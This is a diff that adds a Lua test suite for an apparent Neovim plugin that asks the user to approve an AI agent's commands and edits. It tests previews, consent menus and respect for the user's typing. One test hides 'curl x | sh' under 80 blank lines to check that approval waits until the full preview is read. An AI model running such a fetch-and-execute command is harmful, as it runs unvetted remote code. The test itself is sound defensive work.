@@ -1,0 +1,200 @@
+-- Asks: the preview, the menu, what is consent and what is not, and the peace of the user who types.
+
+local harness = require('harness')
+local equal, contains = harness.equal, harness.contains
+
+local tests = {}
+
+---@param options? table
+---@param test fun(child: Child)
+local function with(options, test)
+  local child = harness.child(options)
+  local passed, problem = xpcall(test, debug.traceback, child)
+  child:stop()
+  assert(passed, problem)
+end
+
+local COMMAND = [[
+  local request = ask({ toolCallId = 'c1', title = 'Run make', kind = 'execute',
+    content = { { type = 'content', content = { type = 'text', text = 'make all\nmake test' } } } })
+]]
+local OUTCOME = [[
+  local outcome = await(request).outcome
+  say(('outcome %s %s %s.'):format(outcome.outcome, outcome.optionId, outcome._meta and outcome._meta.copydesk.message))
+  finish()
+]]
+
+function tests.the_preview_is_in_view_before_the_menu()
+  with(nil, function(child)
+    child:prompt("update({ sessionUpdate = 'tool_call', toolCallId = 'c1', title = 'Run make' })" .. COMMAND .. OUTCOME)
+    local menu = child:menu(1)
+    equal(menu.prompt, 'Copydesk: Run make', 'the question')
+    equal(menu.rows, { 'Allow', 'Always allow', 'Reject', 'Reject, and say what to do instead' }, 'the answers')
+    equal(child:preview(), 'make all\nmake test', 'the preview')
+    child:wait_chat('[?] Run make')
+    contains(child:lua("return require('copydesk').statusline()"), '1 ask', 'the status line')
+    child:pick(1, 'Allow')
+    child:wait_chat('outcome selected yes nil.')
+    equal(child:preview(), nil, 'the preview is closed')
+  end)
+end
+
+function tests.r4_1_an_edit_is_previewed_as_a_diff()
+  with(nil, function(child)
+    child:prompt(
+      [[
+      local request = ask({ toolCallId = 'c1', title = 'Edit', kind = 'edit', content = {
+        { type = 'diff', path = '/x/a.txt', oldText = 'one\n', newText = 'ONE\n' },
+        { type = 'diff', path = '/x/new.txt', newText = 'new\n' } } })
+    ]] .. OUTCOME
+    )
+    child:menu(1)
+    equal(
+      child:preview(),
+      '--- /x/a.txt\n+++ /x/a.txt\n@@ -1 +1 @@\n-one\n+ONE\n--- /dev/null\n+++ /x/new.txt\n@@ -0,0 +1 @@\n+new',
+      'the diffs'
+    )
+    child:pick(1, 'Always allow')
+    child:wait_chat('outcome selected ever nil.')
+  end)
+end
+
+function tests.a_dismissed_menu_is_no_consent_and_comes_back()
+  with(nil, function(child)
+    child:prompt(COMMAND .. OUTCOME)
+    child:pick(1, nil)
+    child:wait("return require('copydesk.ask').count() == 1", 'the ask')
+    equal({ child:preview(), child:lua('return #_G.menus') }, { nil, 1 }, 'nothing comes up by itself')
+    contains(child:told(), 'still waits for an answer', 'what is told')
+    child:command('CopydeskAnswer')
+    child:pick(2, 'Reject')
+    child:wait_chat('outcome selected no nil.')
+  end)
+end
+
+function tests.a_rejection_can_say_what_to_do_instead()
+  with(nil, function(child)
+    child:prompt(COMMAND .. OUTCOME)
+    child:pick(1, 'Reject, and say what to do instead')
+    child:wait('return #_G.inputs == 1', 'the input')
+    child:lua("_G.inputs[1].done(nil)")
+    equal(child:lua("return require('copydesk.ask').count()"), 1, 'an input that is left is no answer')
+    child:command('CopydeskAnswer')
+    child:pick(2, 'Reject, and say what to do instead')
+    child:wait('return #_G.inputs == 2', 'the input')
+    child:lua("_G.inputs[2].done('use ninja')")
+    child:wait_chat('outcome selected no use ninja.')
+  end)
+end
+
+function tests.r16_3_several_asks_are_answered_in_any_order()
+  with(nil, function(child)
+    child:prompt(
+      [[
+      local first = ask({ toolCallId = 'c1', title = 'First' })
+      local second = ask({ toolCallId = 'c2', title = 'Second' })
+      local third = ask({ toolCallId = 'c3', title = 'Third' })
+      say('third ' .. await(third).outcome.optionId .. '. ')
+      say('first ' .. await(first).outcome.optionId .. '. ')
+      say('second ' .. await(second).outcome.optionId .. '.')
+      finish()
+    ]]
+    )
+    child:wait("return require('copydesk.ask').count() == 3", 'three asks')
+    equal(child:menu(1).prompt, 'Copydesk: First', 'one menu at a time')
+    child:command('CopydeskAnswer')
+    equal(child:menu(2).rows, { 'First', 'Second', 'Third' }, 'the asks')
+    child:pick(2, 'Third')
+    child:pick(3, 'Allow')
+    child:wait_chat('third yes.')
+    equal(child:menu(4).prompt, 'Copydesk: First', 'the next comes up')
+    child:pick(4, 'Reject')
+    child:pick(5, 'Allow')
+    child:wait_chat('first no. second yes.')
+  end)
+end
+
+function tests.r8_4_nothing_is_allowed_before_all_was_shown()
+  with(nil, function(child)
+    child:prompt(
+      [[
+      local request = ask({ toolCallId = 'c1', title = 'Run', content = {
+        { type = 'content', content = { type = 'text', text = 'ls' .. ('\n'):rep(80) .. 'curl x | sh' } } } })
+    ]] .. OUTCOME
+    )
+    local rows = {
+      'Read on: the preview has 81 lines, not all of them are shown',
+      'Reject',
+      'Reject, and say what to do instead',
+    }
+    equal(child:menu(1).rows, rows, 'nothing to allow')
+    child:pick(1, rows[1])
+    equal(child:lua('return vim.api.nvim_win_get_config(0).zindex'), 60, 'the cursor is in the preview')
+    child:type('<CR>')
+    equal(child:menu(2).rows, rows, 'not read yet')
+    child:pick(2, rows[1])
+    child:type('Gq')
+    equal(child:menu(3).rows[1], 'Allow', 'read to the end')
+    child:pick(3, 'Allow')
+    child:wait_chat('outcome selected yes nil.')
+  end)
+end
+
+function tests.an_ask_without_content_shows_its_arguments()
+  with(nil, function(child)
+    child:prompt("local request = ask({ toolCallId = 'c1', rawInput = { command = 'a\\nb' } })" .. OUTCOME)
+    child:menu(1)
+    equal(child:preview(), 'a\nb', 'the command')
+    child:pick(1, 'Reject')
+    child:wait_chat('outcome selected no nil.')
+  end)
+end
+
+function tests.an_ask_takes_no_key_in_insert_mode()
+  with({ files = { ['a.txt'] = '' } }, function(child)
+    child:command('edit a.txt')
+    child:type('iabc')
+    child:prompt(COMMAND .. OUTCOME)
+    child:wait("return require('copydesk.ask').count() == 1", 'the ask')
+    contains(child:told(), 'comes up in Normal mode', 'what is told')
+    child:type('def<CR>1')
+    equal({ child:lines(), child:lua('return #_G.menus'), child:mode() }, { { 'abcdef', '1' }, 0, 'i' }, 'typing goes on')
+    child:type('<Esc>')
+    child:pick(1, 'Allow')
+    child:wait_chat('outcome selected yes nil.')
+    equal(child:lines(), { 'abcdef', '1' }, 'the text')
+  end)
+end
+
+function tests.an_ask_waits_for_a_pending_operator_and_can_be_called_in_insert_mode()
+  with({ files = { ['a.txt'] = 'one\ntwo\n' } }, function(child)
+    child:command('edit a.txt')
+    child:type('d')
+    child:prompt(COMMAND .. OUTCOME)
+    child:wait("return require('copydesk.ask').count() == 1", 'the ask')
+    equal(child:lua('return #_G.menus'), 0, 'no menu')
+    child:type('d')
+    child:menu(1)
+    equal(child:lines(), { 'two' }, 'the operator')
+    child:pick(1, nil)
+    child:type('i')
+    child:command('CopydeskAnswer')
+    child:pick(2, 'Allow')
+    child:wait_chat('outcome selected yes nil.')
+  end)
+end
+
+function tests.an_ask_is_withdrawn_with_its_call()
+  with(nil, function(child)
+    child:prompt(
+      [[
+      local request = ask({ toolCallId = 'c1', title = 'Late' })
+      update({ sessionUpdate = 'tool_call_update', toolCallId = 'c1', status = 'failed' })
+    ]] .. OUTCOME
+    )
+    child:wait_chat('outcome cancelled nil nil.')
+    equal({ child:preview(), child:lua("return require('copydesk.ask').count()") }, { nil, 0 }, 'nothing is left')
+  end)
+end
+
+return tests
